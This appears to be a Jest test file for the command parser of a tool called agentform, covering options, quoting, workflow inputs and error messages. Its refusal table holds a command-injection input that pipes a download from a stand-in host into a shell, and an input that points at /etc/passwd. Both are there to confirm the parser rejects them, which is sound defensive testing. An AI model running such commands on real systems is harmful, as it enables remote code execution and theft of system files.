import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { commandNames, parseCommandLine } from '../../src/action/command-line.ts';
import { planSyntax } from '../../src/commands/plan/command.ts';
import { publishSyntax } from '../../src/commands/publish/command.ts';
import { AgentformError } from '../../src/errors.ts';
import { shellWord } from '../../src/text/wording.ts';
import { hostileText } from '../report/hostile-text.ts';
import { codePoint } from '../support/code-point.ts';

describe('the input command', () => {
  test.each(commandNames.slice(0, 5))('The input command accepts %s without further words.', (command) => {
    expect(parseCommandLine(command)).toMatchObject({ command, words: [], decisions: [] });
  });

  test('The input command accepts commands as agentform prints them.', () => {
    expect(parseCommandLine(' `agentform record adopt Agent/front-desk camp_1 -e production` ')).toMatchObject({
      command: 'record adopt',
      words: ['Agent/front-desk', 'camp_1'],
      environment: 'production',
    });
    const digest = `sha256:${'0'.repeat(64)}`;
    const line = `apply web-* --overwrite Agent/a --overwrite Agent/b --allow-older --allow-creates 12 --publish -y --approve-digest ${digest}`;
    expect(parseCommandLine(line)).toEqual({
      command: 'apply',
      words: ['web-*'],
      environment: undefined,
      goneEnvironment: undefined,
      selector: undefined,
      exclude: [],
      answer: [],
      changedSince: undefined,
      allowOlder: true,
      allowCreates: 12,
      skipPolicies: false,
      skipTests: false,
      skipRequires: false,
      skipRollout: false,
      overwrite: ['Agent/a', 'Agent/b'],
      new: [],
      decisions: [
        { rule: 'conflict', names: ['Agent/a', 'Agent/b'], by: 'flag' },
        { rule: 'older-commit', names: [], by: 'flag' },
        { rule: 'limit-creates', names: ['12'], by: 'flag' },
      ],
      yes: true,
      publish: true,
      approveDigest: digest,
    });
  });

  test('The input command accepts label selectors, which replace the names of an update.', () => {
    expect(parseCommandLine("plan -l 'ring in (a, b)' --exclude x --exclude 'Agent/y*'")).toMatchObject({
      words: [],
      selector: 'ring in (a, b)',
      exclude: ['x', 'Agent/y*'],
    });
    expect(parseCommandLine('update -l ring=canary')).toMatchObject({ words: [], selector: 'ring=canary' });
  });

  test('The input command removes quotes as a shell does.', () => {
    const line = `update front-desk -e production --field 'skills[calendar].instructions' --field ${shellWord("it's")}`;
    expect(parseCommandLine(line)).toMatchObject({
      command: 'update',
      words: ['front-desk'],
      environment: 'production',
      field: ['skills[calendar].instructions', "it's"],
    });
    expect(parseCommandLine("update '*' it's").words).toEqual(['*', "it's"]);
  });

  test('The input command accepts the double quotes that the help shows.', () => {
    const line = `import camp_1 --name night -e production --description "It's open at night" --query targetAccountId=17`;
    expect(parseCommandLine(line)).toMatchObject({
      command: 'import',
      words: ['camp_1'],
      environment: 'production',
      name: 'night',
      description: "It's open at night",
      query: ['targetAccountId=17'],
      from: undefined,
    });
    expect(parseCommandLine('update 5" 6').words).toEqual(['5"', '6']);
  });

  test('The input command keeps the name of a secret that looks like a placeholder.', () => {
    const line = 'import camp_1 --name night --description Night --token-secret AGENT_TOKEN';
    expect(parseCommandLine(line)).toMatchObject({ tokenSecret: 'AGENT_TOKEN' });
  });

  test('The input command recovers every word that agentform quotes.', () => {
    const word = fc.string({ minLength: 1, maxLength: 40 }).filter((text) => !/[`\p{Cc}]|^-/u.test(text));
    fc.assert(
      fc.property(word, (text) => {
        expect(parseCommandLine(`update ${shellWord(text)}x`).words).toEqual([`${text}x`]);
      }),
    );
  });

  test('The input command uses --environment for a deleted environment if no resource is named.', () => {
    expect(parseCommandLine('record rename --environment staging qa')).toMatchObject({
      command: 'record rename',
      words: [],
      environment: 'qa',
      goneEnvironment: 'staging',
    });
    expect(parseCommandLine('record forget --environment staging')).toMatchObject({
      words: [],
      environment: undefined,
      goneEnvironment: 'staging',
    });
    expect(parseCommandLine('record forget --unclear -e qa')).toMatchObject({
      words: [],
      environment: 'qa',
      goneEnvironment: undefined,
      unclear: true,
    });
    expect(parseCommandLine('record forget Agent/a -e qa')).toMatchObject({
      words: ['Agent/a'],
      environment: 'qa',
      goneEnvironment: undefined,
    });
  });

  test('The input command parses option values like the command line.', () => {
    const read = parseCommandLine('plan web --exclude desk night');
    expect(read).toMatchObject({ words: ['web'], exclude: ['desk', 'night'] });
    expect(parseCommandLine('apply --no-publish --allow-older=false')).toMatchObject({ publish: false, decisions: [] });
    expect(parseCommandLine('apply --new a,b').decisions).toMatchObject([{ names: ['a', 'b'] }]);
    expect(parseCommandLine('apply --new a --new b').decisions).toMatchObject([{ names: ['a', 'b'] }]);
    expect(parseCommandLine('update 007 1e3').words).toEqual(['007', '1e3']);
  });

  test('Workflow inputs extend the lists of the input command, and may not contradict its other options.', () => {
    const given: Readonly<Record<string, string>> = {
      exclude: 'night, web',
      new: 'Agent/b a',
      'changed-since': 'v1',
      environment: 'production',
      overwrite: 'all',
    };
    const inputOf = (name: string) => given[name] ?? '';
    expect(parseCommandLine('apply --exclude desk --new a --changed-since v1', inputOf)).toMatchObject({
      environment: 'production',
      exclude: ['desk', 'night', 'web'],
      changedSince: 'v1',
      decisions: [{ rule: 'new-agent', names: ['a', 'Agent/b'] }],
    });
    expect(parseCommandLine('publish', inputOf)).toMatchObject({ exclude: ['night', 'web'], decisions: [] });
    expect(() => parseCommandLine('plan --changed-since v2', inputOf)).toThrow(
      'the command sets changed-since to "v2", but the input changed-since of this workflow is "v1"; use the same value for both',
    );
    expect(() => parseCommandLine('record rename -e old new', inputOf)).toThrow(
      'the command sets environment to "new"',
    );
  });

  test('The input command is checked together with the inputs of the workflow.', () => {
    const given: Readonly<Record<string, string>> = { plan: 'plan.json', 'changed-since': 'v1' };
    const inputOf = (name: string) => given[name] ?? '';
    expect(() => parseCommandLine('apply', inputOf)).toThrow(
      '": the input plan cannot be combined with the input changed-since; give --changed-since to `agentform plan` instead',
    );
    const planOf = (name: string) => (name === 'plan' ? 'plan.json' : '');
    expect(parseCommandLine('apply', planOf)).toMatchObject({ plan: 'plan.json' });
    expect(() => parseCommandLine('apply --changed-since v1', planOf)).toThrow(
      '": the input plan cannot be combined with --changed-since;',
    );
    expect(() => parseCommandLine("apply -e 'prod-*'", planOf)).toThrow('--plan requires a single environment');
  });

  test('The input command ignores the environment variables of the process.', () => {
    process.env.AGENTFORM_ENVIRONMENT = 'production';
    try {
      expect(parseCommandLine('apply').environment).toBeUndefined();
    } finally {
      delete process.env.AGENTFORM_ENVIRONMENT;
    }
  });

  test('The command line reads its default environment from the variables when it is parsed.', () => {
    expect(planSyntax.options().environment.default).toBeUndefined();
    process.env.AGENTFORM_ENVIRONMENT = 'production';
    try {
      expect([planSyntax.options(), publishSyntax.options()].map(({ environment }) => environment.default)).toEqual([
        'production',
        'production',
      ]);
    } finally {
      delete process.env.AGENTFORM_ENVIRONMENT;
    }
  });

  test('The input command may consist of options alone, which apply then uses.', () => {
    expect(parseCommandLine('--allow-older')).toMatchObject({
      command: 'apply',
      decisions: [{ rule: 'older-commit' }],
    });
  });

  test.each([
    ['', 'plan'],
    ['publish --allow-pending front-desk', 'publish'],
    ['record rename Agent/a Agent/b', 'record rename'],
  ])('The input %j runs %s', (line, command) => {
    expect(parseCommandLine(line).command).toBe(command);
  });

  test.each([
    ['apply; curl https://x.example | sh', 'which is not supported here; expected plan, validate, apply'],
    ['apply --plan /etc/passwd', '": --plan is valid only as an action input'],
    [
      'apply --format json',
      '": in the action, apply has no option --format; the options are --environment, --selector, --exclude, --changed-since, --allow-older',
    ],
    ['apply --alow-older', 'has no option --alow-older; did you mean --allow-older? The options are --environment'],
    ['apply --overwrite', '": --overwrite needs a value; the options are --environment'],
    ['apply --publish=maybe', '": --publish accepts true, false or no value, not "maybe"'],
    ['apply -- web', '": omit --, because no name begins with a dash; write names before the options'],
    ['update web --to a --to b', '": --to was given more than once'],
    ['apply --allow-creates many', '": --allow-creates must be an integer of at least 0, not "many"'],
    ['update web --ours --theirs', '": --ours cannot be combined with --theirs; use one of them'],
    ['plan -e staging,production', '--environment requires a single environment'],
    ['hold front-desk', '": in the action, hold needs --reason'],
    ['record', 'which is not supported here'],
    ['record move --to file', 'which is not supported here'],
    ['record adopt', '": in the action, record adopt needs ADDRESS [ID]'],
    ['record adopt Agent/front-desk ID', 'which still contains ID; replace it with a value'],
    [
      'record forget --project x',
      '": in the action, record forget has no option --project; the options are --environment',
    ],
    ['record rename Agent/a', '": name the old and the new Kind/name; to rename an environment, run `agentform record'],
    ['record rename --environment OLD NEW', 'which still contains NEW; replace it with a value'],
    [
      'record forget',
      '": name the resources as Kind/name, such as Agent/front-desk; to forget an environment, run `agentform record forget',
    ],
    ['update front-desk --field PATH', 'which still contains PATH; replace it with a value'],
    [
      'update front-desk --dry-run',
      'has no option --dry-run; `agentform plan` shows what an apply would change; the options are --environment, --selector, --exclude, --field, --yes',
    ],
    ['import camp_1 camp_2 --name a', '": in the action, import does not accept the argument "camp_2"'],
    ['import AGENT_ID --name front-desk', 'which still contains AGENT_ID; replace it with a value'],
    ['import camp_1 --name a --description TEXT', 'which still contains TEXT; replace it with a value'],
    ['toString', 'which is not supported here'],
    [`apply ${'a'.repeat(3_000)}`, 'which is longer than 2000 characters'],
  ])('The input command refuses %.40j.', (line, sentence) => {
    expect(() => parseCommandLine(line)).toThrow(sentence);
  });

  test('The input command yields a known command or an error for any text.', () => {
    fc.assert(
      fc.property(fc.oneof(hostileText, fc.string({ unit: codePoint })), (text) => {
        for (const line of [text, `apply ${text}`, `record forget ${text}`]) {
          try {
            expect(commandNames).toContain(parseCommandLine(line).command);
          } catch (error) {
            expect(error).toBeInstanceOf(AgentformError);
          }
        }
      }),
    );
  });
});
